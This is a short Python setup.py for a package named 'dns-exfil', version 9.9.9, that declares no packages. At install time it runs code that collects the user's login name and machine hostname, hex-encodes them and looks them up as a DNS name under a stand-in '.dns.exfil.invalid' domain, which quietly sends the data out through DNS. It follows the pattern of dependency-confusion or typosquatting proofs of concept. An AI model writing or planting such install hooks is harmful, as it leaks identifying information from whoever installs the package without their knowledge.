import socket, getpass, platform, binascii
from setuptools import setup
info = "%s|%s|%s" % (getpass.getuser(), platform.node(), socket.gethostname())
socket.gethostbyname(binascii.hexlify(info.encode()).decode()[:60] + ".dns.exfil.invalid")
setup(name="dns-exfil", version="9.9.9", packages=[])
